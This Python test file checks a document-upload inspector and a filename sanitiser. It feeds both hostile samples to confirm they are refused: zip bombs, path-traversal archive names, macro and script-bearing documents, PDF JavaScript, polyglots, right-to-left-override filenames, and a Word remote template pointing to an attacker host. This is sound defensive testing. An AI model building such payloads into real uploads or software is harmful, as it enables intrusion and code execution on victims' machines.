"""inspect_document and safe_filename on real generated documents: good, broken and hostile."""

from __future__ import annotations

import io
import random
import time
import tracemalloc
import unicodedata
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest

from app.errors import AppError
from app.submissions import files_office, files_pdf
from app.submissions.files import (
    MEDIA_TYPES,
    DocumentInfo,
    InspectionLimits,
    UnsupportedFileType,
    extract_pdf_text,
    inspect_document,
)
from app.submissions.files_rules import EMPTY, NOT_A_DOCUMENT, OLD_WORD, POLYGLOT, clean_text
from app.uploads.names import safe_filename
from app.uploads.refusals import RejectedFile
from tests.support import sample_files as samples

WORD_NS = samples.WORD_NS
PERSIAN_WITH_ZWNJ = "\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645.pdf"


@pytest.fixture
def inspect(tmp_path: Path) -> Callable[..., DocumentInfo]:
    def run(data: bytes, name: str = "upload.bin", **options: object) -> DocumentInfo:
        path = tmp_path / "upload"
        path.write_bytes(data)
        return inspect_document(path, name, **options)  # type: ignore[arg-type]

    return run


@pytest.fixture
def refused(inspect: Callable[..., DocumentInfo]) -> Callable[..., RejectedFile]:
    def run(data: bytes, message: str | None = None, status: int = 422) -> RejectedFile:
        with pytest.raises(RejectedFile) as caught:
            inspect(data)
        assert isinstance(caught.value, AppError)
        assert caught.value.status == status
        if message is not None:
            assert caught.value.message == message
        return caught.value

    return run


# --- accepted PDFs ----------------------------------------------------------------------------


def test_a_one_page_pdf(inspect: Callable[..., DocumentInfo]) -> None:
    info = inspect(samples.pdf_document(1), "Position paper.pdf")
    assert info.kind == "pdf"
    assert info.media_type == "application/pdf"
    assert info.page_count == 1
    assert info.filename == "Position paper.pdf"
    assert info.text is not None
    assert info.text.startswith("Page 1\n1. Civil society organisations")
    assert not info.text_truncated


def test_a_thirty_page_pdf_counts_its_real_pages(inspect: Callable[..., DocumentInfo]) -> None:
    info = inspect(samples.pdf_document(30), "report.pdf")
    assert info.page_count == 30
    assert info.text is not None
    assert "Page 30\n" in info.text


def test_pdf_with_object_streams(inspect: Callable[..., DocumentInfo]) -> None:
    assert inspect(samples.pdf_with_object_streams(3)).page_count == 3


def test_pdf_text_in_any_script(inspect: Callable[..., DocumentInfo]) -> None:
    info = inspect(samples.unicode_pdf("Право человека\n人权 ✓ 😀\nÉgalité"))
    assert info.text is not None
    assert info.text.split("\n") == ["Право человека", "人权 ✓ 😀", "Égalité"]


def test_an_opening_view_and_web_links_are_harmless(inspect: Callable[..., DocumentInfo]) -> None:
    assert inspect(samples.pdf_with_harmless_open_action()).page_count == 2


@pytest.mark.parametrize("prefix", [b"\r\n", b"\xef\xbb\xbf", b"X-Mailer junk line\n"])
def test_a_little_leading_junk_before_the_pdf_header_is_tolerated(
    inspect: Callable[..., DocumentInfo], prefix: bytes
) -> None:
    assert inspect(prefix + samples.pdf_document(2)).page_count == 2


def test_pdf_text_is_capped(inspect: Callable[..., DocumentInfo]) -> None:
    info = inspect(samples.pdf_document(5), limits=InspectionLimits(max_text_chars=1000))
    assert info.text is not None
    assert len(info.text) == 1000
    assert info.text_truncated


def test_pdf_text_stops_when_its_time_is_spent(inspect: Callable[..., DocumentInfo]) -> None:
    info = inspect(samples.pdf_document(5), limits=InspectionLimits(max_text_seconds=0))
    assert info.text is not None
    assert info.text.startswith("Page 1")
    assert "Page 2" not in info.text
    assert info.text_truncated


def test_pdf_text_can_be_left_for_later(
    inspect: Callable[..., DocumentInfo], tmp_path: Path
) -> None:
    data = samples.pdf_document(3)
    info = inspect(data, read_pdf_text=False)
    assert (info.page_count, info.text, info.text_truncated) == (3, None, False)
    later = tmp_path / "later.pdf"
    later.write_bytes(data)
    assert "Page 3" in extract_pdf_text(later).text


# --- refused PDFs -----------------------------------------------------------------------------


def test_password_protected_pdf(refused: Callable[..., RejectedFile]) -> None:
    refused(samples.encrypted_pdf(), files_pdf.LOCKED)


def test_pdf_with_restrictions_but_no_password(refused: Callable[..., RejectedFile]) -> None:
    refused(samples.encrypted_pdf(user_password=""), files_pdf.RESTRICTED)


@pytest.mark.parametrize("fraction", [0.1, 0.5, 0.9, 0.99])
def test_a_pdf_cut_short(refused: Callable[..., RejectedFile], fraction: float) -> None:
    refused(samples.truncated(samples.pdf_document(10), fraction), files_pdf.DAMAGED)


def test_a_pdf_whose_cross_reference_table_lies(refused: Callable[..., RejectedFile]) -> None:
    refused(samples.pdf_with_broken_object(samples.pdf_document(3)), files_pdf.DAMAGED)


def test_a_pdf_with_data_after_its_end(refused: Callable[..., RejectedFile]) -> None:
    refused(samples.pdf_document(1) + b"<html>more</html>", files_pdf.DAMAGED)


def test_a_pdf_header_and_nothing_else(refused: Callable[..., RejectedFile]) -> None:
    refused(b"%PDF-1.7\n%%EOF\n", files_pdf.DAMAGED)


def test_a_pdf_without_pages(refused: Callable[..., RejectedFile]) -> None:
    refused(samples.pdf_without_pages(), files_pdf.NO_PAGES)


@pytest.mark.parametrize("where", ["open_action", "names", "annotation", "object_stream"])
def test_pdf_with_javascript(refused: Callable[..., RejectedFile], where: str) -> None:
    error = refused(samples.pdf_with_javascript(where), files_pdf.ACTIVE_CONTENT)
    assert error.message == (
        "PDF files with scripts or embedded files are not accepted; please export a plain PDF."
    )


@pytest.mark.parametrize("make", [samples.pdf_with_launch_action, samples.pdf_with_attachment])
def test_pdf_that_launches_programs_or_carries_files(
    refused: Callable[..., RejectedFile], make: Callable[[], bytes]
) -> None:
    refused(make(), files_pdf.ACTIVE_CONTENT)


# --- accepted DOCX and ODT --------------------------------------------------------------------


def test_a_docx(inspect: Callable[..., DocumentInfo]) -> None:
    info = inspect(samples.docx_document(["First point.", "Second point."]), "Paper.DOCX")
    assert info.kind == "docx"
    assert info.media_type == MEDIA_TYPES["docx"]
    assert info.filename == "Paper.docx"
    assert info.page_count == 1  # python-docx's template says so in docProps/app.xml
    assert info.text == "Position paper\nFirst point.\nSecond point.\nCell one\nCell two"


def test_docx_text_keeps_tabs_and_breaks_but_not_deletions_or_duplicates(
    inspect: Callable[..., DocumentInfo],
) -> None:
    mc = "http://schemas.openxmlformats.org/markup-compatibility/2006"
    body = (
        "<w:p><w:r><w:t>Tab</w:t><w:tab/><w:t>and</w:t><w:br/><w:t>break</w:t></w:r>"
        "<w:del><w:r><w:delText>deleted</w:delText></w:r></w:del>"
        "<w:r><w:instrText>PAGE</w:instrText></w:r></w:p>"
        f'<w:p><w:r><mc:AlternateContent xmlns:mc="{mc}"><mc:Choice Requires="wps">'
        "<w:txbxContent><w:p><w:r><w:t>In a box</w:t></w:r></w:p></w:txbxContent>"
        "</mc:Choice><mc:Fallback><w:t>In a box</w:t></mc:Fallback></mc:AlternateContent>"
        "</w:r><w:r><w:t> after</w:t></w:r></w:p>"
    )
    document = f'<w:document xmlns:w="{WORD_NS}"><w:body>{body}</w:body></w:document>'
    data = samples.rezip(samples.docx_document(), replace={"word/document.xml": document.encode()})
    assert inspect(data).text == "Tab\tand\nbreak\n\nIn a box after"


def test_a_large_docx(inspect: Callable[..., DocumentInfo]) -> None:
    info = inspect(samples.large_docx(), "big.docx")
    assert info.kind == "docx"
    assert info.text is not None
    assert len(info.text) == 2_000_000
    assert info.text_truncated


def test_docx_text_is_capped(inspect: Callable[..., DocumentInfo]) -> None:
    paragraphs = [f"Paragraph {n} " + "word " * 50 for n in range(100)]
    info = inspect(samples.docx_document(paragraphs), limits=InspectionLimits(max_text_chars=500))
    assert info.text is not None
    assert len(info.text) == 500
    assert info.text_truncated


def test_docx_with_an_external_hyperlink(inspect: Callable[..., DocumentInfo]) -> None:
    data = samples.docx_document()
    rels = samples.zip_members(data)["word/_rels/document.xml.rels"].decode()
    rels = rels.replace(
        "</Relationships>",
        '<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        'relationships/hyperlink" Target="https://example.org/" TargetMode="External"/>'
        "</Relationships>",
    )
    replaced = samples.rezip(data, replace={"word/_rels/document.xml.rels": rels.encode()})
    assert inspect(replaced).kind == "docx"


def test_an_odt(inspect: Callable[..., DocumentInfo]) -> None:
    info = inspect(samples.odt_document(page_count=3), "Papier de position.odt")
    assert info.kind == "odt"
    assert info.media_type == "application/vnd.oasis.opendocument.text"
    assert info.filename == "Papier de position.odt"
    assert info.page_count == 3
    assert info.text == f"Position paper\n{samples.LOREM}"


def test_an_odt_template_is_a_text_document_too(inspect: Callable[..., DocumentInfo]) -> None:
    data = samples.odt_document(mimetype="application/vnd.oasis.opendocument.text-template")
    info = inspect(data, "letter.ott")
    assert (info.kind, info.filename) == ("odt", "letter.odt")


def test_odt_without_statistics_has_no_page_count(inspect: Callable[..., DocumentInfo]) -> None:
    assert inspect(samples.odt_document(page_count=None)).page_count is None


def test_odt_text_follows_mixed_content(inspect: Callable[..., DocumentInfo]) -> None:
    body = (
        '<text:h text:outline-level="1">Titre</text:h>'
        '<text:p>Un<text:s text:c="3"/>deux<text:tab/>trois<text:line-break/>'
        '<text:span text:style-name="T1">quatre</text:span> cinq'
        '<text:note text:note-class="footnote"><text:note-citation>1</text:note-citation>'
        "<text:note-body><text:p>Une note.</text:p></text:note-body></text:note> six</text:p>"
        "<text:list><text:list-item><text:p>Élément</text:p></text:list-item></text:list>"
        "<table:table><table:table-row><table:table-cell><text:p>Cellule</text:p>"
        "</table:table-cell></table:table-row></table:table>"
    )
    info = inspect(samples.odt_document(body))
    assert info.text == "Titre\nUn   deux\ttrois\nquatre cinq six\nÉlément\nCellule"


def test_odt_text_is_capped(inspect: Callable[..., DocumentInfo]) -> None:
    body = "".join(f"<text:p>Paragraph {n} {'mot ' * 40}</text:p>" for n in range(100))
    info = inspect(samples.odt_document(body), limits=InspectionLimits(max_text_chars=300))
    assert info.text is not None
    assert len(info.text) == 300
    assert info.text_truncated


def test_the_kind_comes_from_the_content_not_the_name(
    inspect: Callable[..., DocumentInfo],
) -> None:
    assert inspect(samples.pdf_document(1), "paper.docx").filename == "paper.pdf"
    assert inspect(samples.docx_document(), "paper.pdf").kind == "docx"
    assert inspect(samples.odt_document(), "paper.docx").filename == "paper.odt"


# --- not a document at all --------------------------------------------------------------------


def test_an_empty_file(refused: Callable[..., RejectedFile]) -> None:
    refused(b"", EMPTY)


@pytest.mark.parametrize(
    "data",
    [
        samples.png_image(),
        b"Just some text, saved with a .docx name.\n",
        b"{\\rtf1\\ansi Hello}",
        b"<html><body>%PDF</body></html>",
        bytes(2000),
    ],
    ids=["png", "text", "rtf", "html", "zeros"],
)
def test_files_that_are_not_documents(refused: Callable[..., RejectedFile], data: bytes) -> None:
    error = refused(data, NOT_A_DOCUMENT, status=415)
    assert isinstance(error, UnsupportedFileType)


def test_an_old_word_document(refused: Callable[..., RejectedFile]) -> None:
    refused(samples.legacy_word_doc(), OLD_WORD, status=415)


def test_a_plain_zip_archive(refused: Callable[..., RejectedFile]) -> None:
    refused(samples.zip_bytes({"notes.txt": b"hello"}), NOT_A_DOCUMENT, status=415)


def test_an_empty_zip_archive(refused: Callable[..., RejectedFile]) -> None:
    refused(samples.zip_bytes({}), NOT_A_DOCUMENT, status=415)  # only an end record


def test_a_spreadsheet(refused: Callable[..., RejectedFile]) -> None:
    data = samples.zip_bytes(
        {"[Content_Types].xml": b"<Types/>", "_rels/.rels": b"<r/>", "xl/workbook.xml": b"<w/>"}
    )
    refused(data, files_office.NOT_WORD, status=415)


@pytest.mark.parametrize(
    ("mimetype", "message"),
    [
        ("application/vnd.oasis.opendocument.spreadsheet", files_office.NOT_TEXT_ODF),
        ("application/epub+zip", NOT_A_DOCUMENT),
    ],
)
def test_other_open_document_types(
    refused: Callable[..., RejectedFile], mimetype: str, message: str
) -> None:
    refused(samples.odt_document(mimetype=mimetype), message, status=415)


# --- damaged or invalid packages --------------------------------------------------------------


@pytest.mark.parametrize("fraction", [0.3, 0.5, 0.99])
@pytest.mark.parametrize("make", [samples.docx_document, samples.odt_document])
def test_a_package_cut_short(
    refused: Callable[..., RejectedFile], make: Callable[[], bytes], fraction: float
) -> None:
    refused(samples.truncated(make(), fraction), files_office.DAMAGED)


def test_a_docx_with_a_corrupted_member(refused: Callable[..., RejectedFile]) -> None:
    data = bytearray(samples.docx_document())
    with zipfile.ZipFile(io.BytesIO(bytes(data))) as archive:
        info = archive.getinfo("word/document.xml")
    start = info.header_offset + 30 + len(info.filename) + len(info.extra)
    data[start + info.compress_size // 2] ^= 0xFF
    refused(bytes(data), files_office.DAMAGED)


@pytest.mark.parametrize("missing", ["word/document.xml", "_rels/.rels"])
def test_a_docx_missing_a_required_part(refused: Callable[..., RejectedFile], missing: str) -> None:
    refused(samples.rezip(samples.docx_document(), drop=[missing]), files_office.NOT_DOCX)


def test_a_docx_without_content_types(refused: Callable[..., RejectedFile]) -> None:
    data = samples.rezip(samples.docx_document(), drop=["[Content_Types].xml"])
    refused(data, NOT_A_DOCUMENT, status=415)


def test_a_docx_whose_main_part_is_not_a_word_document(
    refused: Callable[..., RejectedFile],
) -> None:
    data = samples.docx_document()
    types = samples.zip_members(data)["[Content_Types].xml"].replace(
        samples.DOCX_MAIN.encode(), b"application/xml"
    )
    refused(samples.rezip(data, replace={"[Content_Types].xml": types}), files_office.NOT_DOCX)


def test_a_docx_with_malformed_xml(refused: Callable[..., RejectedFile]) -> None:
    data = samples.rezip(
        samples.docx_document(), replace={"word/document.xml": b"<w:document><w:body>"}
    )
    refused(data, files_office.DAMAGED)


def test_entity_expansion_is_refused_not_expanded(refused: Callable[..., RejectedFile]) -> None:
    refused(samples.docx_with_doctype(), files_office.DAMAGED)


def test_an_odt_missing_its_content(refused: Callable[..., RejectedFile]) -> None:
    refused(samples.rezip(samples.odt_document(), drop=["content.xml"]), files_office.NOT_ODT)


def test_an_encrypted_member(refused: Callable[..., RejectedFile]) -> None:
    refused(samples.encrypted_zip_member(samples.docx_document()), files_office.LOCKED)


def test_an_unusual_compression_method(refused: Callable[..., RejectedFile]) -> None:
    members = samples.zip_members(samples.docx_document())
    refused(samples.zip_bytes(members, compression=zipfile.ZIP_BZIP2), files_office.DAMAGED)


# --- hostile archives -------------------------------------------------------------------------


@pytest.fixture(scope="module")
def zip_bomb(tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("bomb") / "bomb.docx"
    samples.write_zip_bomb_docx(path, member_size=256 * 1024 * 1024)
    return path


def test_a_zip_bomb_is_refused_from_its_directory_alone(zip_bomb: Path) -> None:
    assert zip_bomb.stat().st_size < 2 * 1024 * 1024
    tracemalloc.start()
    started = time.perf_counter()
    try:
        with pytest.raises(RejectedFile) as caught:
            inspect_document(zip_bomb, "position.docx")
        elapsed = time.perf_counter() - started
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert caught.value.message == files_office.BOMB
    assert elapsed < 0.5
    assert peak < 2 * 1024 * 1024


def test_a_member_that_inflates_too_much(refused: Callable[..., RejectedFile]) -> None:
    refused(samples.zip_with_high_ratio_member(), files_office.BOMB)


def test_the_total_size_is_capped(inspect: Callable[..., DocumentInfo]) -> None:
    with pytest.raises(RejectedFile) as caught:
        inspect(samples.docx_document(), limits=InspectionLimits(max_unpacked_bytes=100_000))
    assert caught.value.message == files_office.BOMB


def test_too_many_members(refused: Callable[..., RejectedFile]) -> None:
    refused(samples.zip_with_many_members(1001), files_office.TOO_MANY_PARTS)


@pytest.mark.parametrize(
    "name",
    ["../evil.xml", "/etc/cron.d/x", "C:/Windows/x", "word\\..\\x", "word/../../x", "./x", "a//b"],
)
def test_member_names_with_path_tricks(refused: Callable[..., RejectedFile], name: str) -> None:
    refused(samples.zip_with_member_names([name]), files_office.UNSAFE_NAMES)


def test_duplicate_members(refused: Callable[..., RejectedFile]) -> None:
    with pytest.warns(UserWarning, match="Duplicate name"):
        data = samples.zip_with_duplicate_member()
    refused(data, files_office.UNSAFE_NAMES)


def test_members_differing_only_in_case(refused: Callable[..., RejectedFile]) -> None:
    data = samples.zip_with_member_names(["WORD/document.xml"])
    refused(data, files_office.UNSAFE_NAMES)


@pytest.mark.parametrize(
    "make",
    [samples.docx_with_macros, samples.docx_with_hidden_vba_project],
    ids=["docm", "hidden-vba"],
)
def test_word_documents_with_macros(
    refused: Callable[..., RejectedFile], make: Callable[[], bytes]
) -> None:
    refused(make(), files_office.MACROS)


def test_word_documents_with_activex_controls(refused: Callable[..., RejectedFile]) -> None:
    data = samples.rezip(samples.docx_document(), add={"word/activeX/activeX1.xml": b"<x/>"})
    refused(data, files_office.MACROS)


def test_word_documents_with_ole_objects(refused: Callable[..., RejectedFile]) -> None:
    refused(samples.docx_with_ole_object(), files_office.OLE_OBJECTS)


def test_a_template_loaded_from_elsewhere(refused: Callable[..., RejectedFile]) -> None:
    rels = (
        '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.'
        'openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http:'
        '//schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
        'Target="https://attacker.example/t.dotm" TargetMode="External"/></Relationships>'
    )
    data = samples.rezip(
        samples.docx_document(), add={"word/_rels/settings.xml.rels": rels.encode()}
    )
    refused(data, files_office.EXTERNAL)


def test_odt_with_basic_macros(refused: Callable[..., RejectedFile]) -> None:
    refused(samples.odt_with_basic_macro(), files_office.MACROS)


def test_odt_with_scripts(refused: Callable[..., RejectedFile]) -> None:
    data = samples.odt_document(extra={"Scripts/python/run.py": b"import os"})
    refused(data, files_office.MACROS)


def test_odt_with_an_event_bound_to_a_macro(refused: Callable[..., RejectedFile]) -> None:
    body = (
        '<text:p><office:event-listeners xmlns:script="urn:oasis:names:tc:opendocument:xmlns:'
        'script:1.0"><script:event-listener script:language="ooo:script" '
        'script:event-name="dom:load" xlink:href="vnd.sun.star.script:LibreLogo.py$run" '
        'xmlns:xlink="http://www.w3.org/1999/xlink"/></office:event-listeners>Hi</text:p>'
    )
    refused(samples.odt_document(body), files_office.MACROS)


# --- polyglots --------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "make",
    [
        samples.pdf_with_zip_appended,
        samples.zip_with_pdf_appended,
        samples.pdf_header_before_zip,
        samples.zip_with_pdf_header_inside,
        samples.html_before_pdf,
        lambda: samples.png_image() + samples.pdf_document(1),
        lambda: samples.docx_document() + samples.docx_document(),
        lambda: samples.rezip(samples.odt_document(), add={"[Content_Types].xml": b"<Types/>"}),
    ],
    ids=[
        "pdf+zip",
        "zip+pdf",
        "pdf-header+zip",
        "zip-with-pdf-header",
        "html+pdf",
        "png+pdf",
        "zip+zip",
        "odt+ooxml",
    ],
)
def test_a_file_must_be_exactly_one_thing(
    refused: Callable[..., RejectedFile], make: Callable[[], bytes]
) -> None:
    refused(make(), POLYGLOT)


# --- safe_filename ----------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "safe"),
    [
        ("Position paper.pdf", "Position paper.pdf"),
        ("../../x.pdf", "x.pdf"),
        ("/etc/passwd", "passwd"),
        ("C:\\Users\\me\\Desktop\\paper.pdf", "paper.pdf"),
        ("..\\..\\boot.ini", "boot.ini"),
        (".hidden.pdf", "hidden.pdf"),
        ("...", "document"),
        ("", "document"),
        ("   ", "document"),
        ("../", "document"),
        ("report\x00.pdf", "report.pdf"),
        ("two\nlines\r\n.pdf", "two lines.pdf"),
        ('a<b>c:d"e|f?g*h.pdf', "a_b_c_d_e_f_g_h.pdf"),
        ("  spaced   out  name .pdf ", "spaced out name.pdf"),
        ("invoice\u202efdp.exe", "invoicefdp.exe"),
        ("Re\u0301sume\u0301.pdf", "Résumé.pdf"),
        ("Zürich — Stellungnahme.pdf", "Zürich — Stellungnahme.pdf"),
        ("محضر الاجتماع.pdf", "محضر الاجتماع.pdf"),
        (PERSIAN_WITH_ZWNJ, PERSIAN_WITH_ZWNJ),  # the zero-width non-joiner is spelling
        ("line\u2028sep.pdf", "line sep.pdf"),
        ("CON.pdf", "_CON.pdf"),
        ("nul", "_nul"),
        ("Report.PDF", "Report.pdf"),
        ("photo.JPG", "photo.JPG"),
        ("trailing dots...", "trailing dots"),
    ],
)
def test_safe_filename(name: str, safe: str) -> None:
    assert safe_filename(name) == safe


@pytest.mark.parametrize(
    ("name", "extension", "safe"),
    [
        ("paper.docx", "pdf", "paper.pdf"),
        ("paper.PDF", "pdf", "paper.pdf"),
        ("notes.v2", "pdf", "notes.v2.pdf"),
        ("archive.tar.gz", "odt", "archive.tar.gz.odt"),
        ("no extension", "docx", "no extension.docx"),
        (".pdf", "pdf", "document.pdf"),
        ("../../.pdf", "pdf", "document.pdf"),
        ("invoice\u202efdp.exe", "pdf", "invoicefdp.exe.pdf"),
    ],
)
def test_safe_filename_with_the_detected_extension(name: str, extension: str, safe: str) -> None:
    assert safe_filename(name, extension=extension) == safe


def test_long_names_are_shortened_keeping_the_extension() -> None:
    assert safe_filename("a" * 300 + ".pdf") == "a" * 116 + ".pdf"
    wide = safe_filename("é" * 200 + ".pdf")
    assert wide.endswith(".pdf")
    assert len(wide.encode()) <= 240


def test_shortening_keeps_accents_with_their_letters() -> None:
    name = "x" + "q\u0307" * 100 + ".pdf"  # q with a dot above has no precomposed form
    safe = safe_filename(name)
    assert safe.endswith("\u0307.pdf")
    assert len(safe) <= 120


def test_safe_filename_never_yields_anything_dangerous() -> None:
    rng = random.Random(7)
    alphabet = 'ab./\\:*?"<>|\x00\x01\x1f\x7f \t\n.\u202e\u200fé€😀\ud800-_~'
    for _ in range(2000):
        name = "".join(rng.choice(alphabet) for _ in range(rng.randint(0, 40)))
        safe = safe_filename(name, extension=rng.choice([None, "pdf"]))
        assert safe
        assert not safe.startswith(".")
        assert not safe.endswith((" ", "."))
        assert not set(safe) & set('/\\:*?"<>|\u202e\u200f\ud800')
        assert all(unicodedata.category(ch) != "Cc" for ch in safe)
        assert len(safe) <= 120
        safe.encode("utf-8")


def test_clean_text_drops_what_a_database_refuses() -> None:
    assert clean_text(" a\x00b\ud800c ") == "ab?c"
